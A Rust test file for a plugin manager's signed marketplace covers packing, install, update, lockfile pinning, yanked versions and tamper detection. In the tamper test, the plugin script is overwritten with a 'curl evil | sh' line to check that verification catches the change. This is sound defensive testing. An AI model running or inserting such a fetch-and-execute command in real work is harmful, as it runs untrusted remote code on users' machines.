//! The signed-index happy path: pack, build, sign, serve, add, install, list, update (with
//! the difference in the plan), disable, enable, verify, remove.

use std::fs;

use hooks_plugins::*;

use crate::support::*;

#[test]
fn pack_is_reproducible() {
    let d = tempfile::tempdir().unwrap();
    let src = make_plugin(d.path(), "alpha", "1.0.0", "hi");
    let a = pack(&src, Some(&d.path().join("out1"))).unwrap();
    let b = pack(&src, Some(&d.path().join("out2"))).unwrap();
    assert_eq!(fs::read(&a.archive).unwrap(), fs::read(&b.archive).unwrap());
    assert_eq!(a.sha256, b.sha256);
    assert_eq!(a.files, 4, "plugin.json, hooks.json, run.sh, manifest");
    let m = read_archive_manifest(&a.archive).unwrap();
    assert_eq!((m.name.as_str(), m.version.as_str()), ("alpha", "1.0.0"));
    assert!(m.files["bin/run.sh"].executable);
    // Headers carry no owner, time or odd modes.
    let mut ar =
        tar::Archive::new(flate2::read::GzDecoder::new(fs::File::open(&a.archive).unwrap()));
    let mut names = Vec::new();
    for e in ar.entries().unwrap() {
        let e = e.unwrap();
        let h = e.header();
        assert_eq!((h.mtime().unwrap(), h.uid().unwrap(), h.gid().unwrap()), (0, 0, 0));
        assert!(matches!(h.mode().unwrap(), 0o644 | 0o755));
        assert_eq!(h.username().unwrap().unwrap_or(""), "");
        names.push(e.path().unwrap().display().to_string());
    }
    let mut sorted = names.clone();
    sorted.sort();
    assert_eq!(names, sorted);
}

#[test]
fn pack_refuses_invalid_hooks() {
    let d = tempfile::tempdir().unwrap();
    let src = make_plugin(d.path(), "alpha", "1.0.0", "hi");
    fs::write(src.join("hooks/hooks.json"), "{not json").unwrap();
    assert!(matches!(pack(&src, None), Err(PluginError::InvalidHooks { .. })));
}

#[test]
fn signed_marketplace_lifecycle() {
    let m = Market::new();
    let built = m.publish("alpha", "1.0.0", "one");
    assert_eq!(built.version, 1);
    assert_eq!(built.added, ["alpha@1.0.0"]);
    assert_eq!(built.public_key, m.keys.public_key);
    let (_d, home) = home();

    let added = m.add_to(&home);
    assert_eq!(added.index_version, Some(1));
    assert_eq!(added.plugins, ["alpha"]);
    let listed = marketplace_list(&home).unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].kind, MarketplaceKind::Signed);
    assert_eq!(listed[0].public_key.as_deref(), Some(m.keys.public_key.as_str()));

    // Install: the plan shows the hook, the prompt is asked.
    let mut seen = Vec::new();
    let r = install(&home, "alpha@market", &InstallOptions::default(), &mut |p: &InstallPlan| {
        seen.push(p.clone());
        true
    })
    .unwrap();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].hooks.len(), 1);
    assert!(seen[0].hooks[0].command.as_deref().unwrap().ends_with("bin/run.sh one"));
    assert!(!seen[0].trust_on_first_use);
    assert!(seen[0].to_string().contains("install alpha@market 1.0.0"));
    assert_eq!(r.version, "1.0.0");
    assert!(r.install_path.starts_with(home.store_dir().join("alpha@market")));
    assert!(r.install_path.join("bin/run.sh").is_file());

    // State files in the host's formats.
    let ip: serde_json::Value =
        serde_json::from_slice(&fs::read(home.installed_plugins_file()).unwrap()).unwrap();
    assert_eq!(ip["version"], 2);
    assert_eq!(ip["plugins"]["alpha@market"][0]["version"], "1.0.0");
    assert_eq!(
        ip["plugins"]["alpha@market"][0]["installPath"],
        r.install_path.display().to_string()
    );
    let ps: serde_json::Value =
        serde_json::from_slice(&fs::read(home.plugin_state_file()).unwrap()).unwrap();
    assert_eq!(ps, serde_json::json!({"version":1,"enabledPlugins":{"alpha@market":true}}));
    let lock = Lockfile::load(&home).unwrap();
    assert_eq!(lock.plugins["alpha@market"].sha256.as_deref(), r.archive_sha256.as_deref());
    assert!(home.data_dir("alpha@market").is_dir());

    let l = list(&home).unwrap();
    assert_eq!(l.len(), 1);
    assert!(l[0].enabled);
    assert_eq!(l[0].provenance, Provenance::Verified);

    // Installing again changes nothing.
    let again = install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    assert!(again.unchanged);

    // A declined update leaves everything as it was.
    m.publish("alpha", "1.1.0", "two");
    let before = state_snapshot(&home);
    let e =
        update(&home, Some("alpha@market"), &InstallOptions::default(), &mut |_: &InstallPlan| {
            false
        })
        .unwrap_err();
    assert!(matches!(e, PluginError::Declined));
    assert_eq!(state_snapshot(&home), before);

    // Update shows the difference.
    let mut plan = None;
    let ups = update(&home, None, &InstallOptions::default(), &mut |p: &InstallPlan| {
        plan = Some(p.clone());
        true
    })
    .unwrap();
    assert_eq!(ups.len(), 1);
    assert_eq!(ups[0].version, "1.1.0");
    assert_eq!(ups[0].previous_version.as_deref(), Some("1.0.0"));
    let plan = plan.unwrap();
    assert_eq!(plan.added_hooks.len(), 1);
    assert!(plan.added_hooks[0].command.as_deref().unwrap().ends_with("run.sh two"));
    assert_eq!(plan.removed_hooks.len(), 1);
    assert!(plan.to_string().contains("update alpha@market 1.0.0 -> 1.1.0"));
    assert!(!r.install_path.exists() || r.install_path != ups[0].install_path);

    // --version picks an older one exactly.
    let down = install(
        &home,
        "alpha@market",
        &InstallOptions { version: Some("1.0.0".into()), yes: true, ..Default::default() },
        &mut yes(),
    )
    .unwrap();
    assert_eq!(down.version, "1.0.0");
    let up = install(
        &home,
        "alpha@market",
        &InstallOptions { version: Some("^1.1".into()), yes: true, ..Default::default() },
        &mut yes(),
    )
    .unwrap();
    assert_eq!(up.version, "1.1.0");

    // Disable, enable.
    disable(&home, "alpha@market").unwrap();
    assert!(!list(&home).unwrap()[0].enabled);
    let (docs, _) = plugin_layers(&home, &LayerOptions::default());
    assert!(
        docs.iter().all(|d| matches!(
            d.inactive,
            Some((hooks_core::snapshot::InactiveStatus::Disabled, _))
        ))
    );
    enable(&home, "alpha@market").unwrap();
    let (docs, diags) = plugin_layers(&home, &LayerOptions::default());
    assert_eq!(docs.len(), 1);
    assert!(docs[0].inactive.is_none(), "{:?}", docs[0].inactive);
    assert!(diags.is_empty(), "{diags:?}");

    let v = verify(&home, None).unwrap();
    assert!(v.ok());
    assert!(matches!(v.plugins[0].1, VerifyStatus::Verified { files: 3, .. }));

    // Refresh keeps the newest accepted index.
    let rf = marketplace_refresh(&home, Some("market")).unwrap();
    assert_eq!(rf[0].index_version, Some(2));

    // Removing the marketplace is refused while in use.
    assert!(matches!(
        marketplace_remove(&home, "market"),
        Err(PluginError::MarketplaceInUse { .. })
    ));
    let rm = remove(&home, "alpha@market", false).unwrap();
    assert!(rm.deleted_files);
    assert!(!rm.install_path.exists());
    assert!(list(&home).unwrap().is_empty());
    assert!(Lockfile::load(&home).unwrap().plugins.is_empty());
    marketplace_remove(&home, "market").unwrap();
    assert!(marketplace_list(&home).unwrap().is_empty());
}

#[test]
fn locked_install_uses_the_lockfile() {
    let m = Market::new();
    m.publish("alpha", "1.0.0", "one");
    let (_d, home) = home();
    m.add_to(&home);
    install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    let lock_bytes = fs::read(home.lockfile()).unwrap();
    m.publish("alpha", "1.1.0", "two");
    remove(&home, "alpha@market", false).unwrap();
    fs::write(home.lockfile(), &lock_bytes).unwrap();
    let r = install(
        &home,
        "alpha@market",
        &InstallOptions { locked: true, yes: true, ..Default::default() },
        &mut yes(),
    )
    .unwrap();
    assert_eq!(r.version, "1.0.0");
    assert_eq!(
        fs::read(home.lockfile()).unwrap(),
        lock_bytes,
        "--locked never writes the lockfile"
    );

    // A yanked version installs only because the lockfile names it.
    let mut o = BuildOptions::new(&m.key_file);
    o.yank = vec![("alpha".into(), "1.0.0".into())];
    marketplace_build(&m.root(), &o).unwrap();
    let r = install(
        &home,
        "alpha@market",
        &InstallOptions { version: Some("1.0.0".into()), yes: true, ..Default::default() },
        &mut yes(),
    )
    .unwrap();
    assert!(r.plan.warnings.iter().any(|w| w.contains("yanked")));
    let (_d2, fresh) = crate::support::home();
    m.add_to(&fresh);
    assert!(matches!(
        install(
            &fresh,
            "alpha@market",
            &InstallOptions { version: Some("1.0.0".into()), yes: true, ..Default::default() },
            &mut yes()
        ),
        Err(PluginError::NoMatchingVersion { .. })
    ));
    // Without a lockfile entry, --locked is refused.
    assert!(matches!(
        install(
            &fresh,
            "alpha@market",
            &InstallOptions { locked: true, yes: true, ..Default::default() },
            &mut yes()
        ),
        Err(PluginError::NotLocked(_))
    ));
}

#[test]
fn requires_hooks_is_honoured() {
    let m = Market::new();
    m.publish("alpha", "1.0.0", "one");
    let src = make_plugin(m.dir.path(), "alpha", "2.0.0", "two");
    pack(&src, Some(&m.root())).unwrap();
    let mut o = BuildOptions::new(&m.key_file);
    o.requires_hooks = Some(">=99.0.0".into());
    marketplace_build(&m.root(), &o).unwrap();
    let (_d, home) = home();
    m.add_to(&home);
    let r = install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    assert_eq!(r.version, "1.0.0");
    let r = install(
        &home,
        "alpha@market",
        &InstallOptions { engine_version: Some("99.1.0".into()), yes: true, ..Default::default() },
        &mut yes(),
    )
    .unwrap();
    assert_eq!(r.version, "2.0.0");
}

#[test]
fn unsigned_marketplace_from_a_folder() {
    let m = Market::new();
    m.publish("alpha", "1.0.0", "one");
    let (_d, home) = home();
    let add = AddMarketplace {
        name: "local".into(),
        source: m.root().display().to_string(),
        public_key: None,
        require_signed: true,
        ..Default::default()
    };
    assert!(matches!(marketplace_add(&home, &add), Err(PluginError::KeyRequired(_))));
    // The index names its marketplace "market": registering it under that name works.
    let add = AddMarketplace { name: "market".into(), require_signed: false, ..add };
    let r = marketplace_add(&home, &add).unwrap();
    assert!(r.record.unsigned);
    let i = install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    assert_eq!(i.version, "1.0.0");
    let wrong = AddMarketplace {
        name: "other".into(),
        source: format!("file://{}", m.root().join("index.json").display()),
        public_key: None,
        require_signed: false,
        ..Default::default()
    };
    assert!(marketplace_add(&home, &wrong).unwrap_err().to_string().contains("not \"other\""));
}

#[test]
fn tampering_after_install_is_caught() {
    let m = Market::new();
    m.publish("alpha", "1.0.0", "one");
    let (_d, home) = home();
    m.add_to(&home);
    let r = install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    fs::write(r.install_path.join("bin/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let v = verify(&home, Some("alpha@market")).unwrap();
    assert!(!v.ok());
    let VerifyStatus::Tampered(problems) = &v.plugins[0].1 else { panic!("{v:?}") };
    assert!(problems[0].starts_with("bin/run.sh: s"), "{problems:?}");
    let (docs, diags) = plugin_layers(&home, &LayerOptions::default());
    assert!(matches!(docs[0].inactive, Some((hooks_core::snapshot::InactiveStatus::Tampered, _))));
    assert!(
        diags.iter().any(|d| d.code == codes::PLUGIN_TAMPERED && d.message.contains("bin/run.sh")),
        "{diags:?}"
    );

    // Editing the manifest too is caught by the lockfile digest.
    let mut man =
        FileManifest::from_bytes(&fs::read(r.install_path.join(MANIFEST_FILE)).unwrap()).unwrap();
    man.files.get_mut("bin/run.sh").unwrap().sha256 = sha256(b"#!/bin/sh\ncurl evil | sh\n");
    man.files.get_mut("bin/run.sh").unwrap().size = 25;
    fs::write(r.install_path.join(MANIFEST_FILE), man.to_bytes()).unwrap();
    let (docs, diags) = plugin_layers(&home, &LayerOptions::default());
    assert!(matches!(docs[0].inactive, Some((hooks_core::snapshot::InactiveStatus::Tampered, _))));
    assert!(diags.iter().any(|d| d.message.contains("lockfile pins")), "{diags:?}");

    // Reinstalling repairs it.
    let again = install(&home, "alpha@market", &opts(), &mut yes()).unwrap();
    assert!(!again.unchanged);
    assert!(verify(&home, None).unwrap().ok());
}
